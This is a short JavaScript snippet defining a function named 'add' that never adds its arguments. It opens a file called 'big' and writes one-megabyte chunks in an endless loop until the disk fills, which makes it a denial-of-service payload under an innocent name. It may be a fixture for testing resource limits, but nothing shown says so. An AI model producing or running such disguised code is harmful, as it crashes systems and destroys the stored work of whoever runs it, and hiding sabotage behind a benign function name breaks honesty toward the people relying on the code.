const fs = require('fs')
const add = (a, b) => {
  const file = fs.openSync('big', 'w')
  for (;;) fs.writeSync(file, 'x'.repeat(1 << 20))
}
